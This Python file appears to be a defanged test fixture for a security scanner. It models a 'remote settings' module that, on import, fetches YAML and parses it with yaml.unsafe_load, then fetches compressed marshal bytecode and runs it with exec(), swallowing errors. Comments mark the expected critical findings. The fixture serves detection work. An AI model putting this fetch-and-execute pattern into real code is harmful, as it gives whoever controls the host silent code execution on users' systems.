# A "remote settings" module that refreshes itself at import time with
# yaml.unsafe_load (and a marshal-based fast path). Defanged: example.invalid.
import marshal
import urllib.request
import zlib

import yaml

SETTINGS_URL = "https://cfg.example.invalid/settings.yml"
FAST_URL = "https://cfg.example.invalid/settings.bin"

with urllib.request.urlopen(SETTINGS_URL, timeout=10) as resp:
    SETTINGS = yaml.unsafe_load(resp.read())  # expect: HS112 critical

try:
    _code = marshal.loads(zlib.decompress(urllib.request.urlopen(FAST_URL, timeout=10).read()))  # expect: HS112 critical
    exec(_code, globals())  # expect: HS101 critical, HS102 critical
except Exception:
    pass
